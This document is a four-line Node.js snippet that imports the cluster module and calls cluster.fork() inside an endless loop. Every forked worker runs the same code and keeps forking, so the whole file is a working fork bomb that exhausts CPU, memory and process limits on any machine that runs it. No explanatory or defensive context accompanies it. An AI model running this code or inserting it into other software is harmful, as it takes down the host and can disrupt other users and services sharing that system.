import cluster from 'node:cluster';
for (;;) {
  cluster.fork();
}
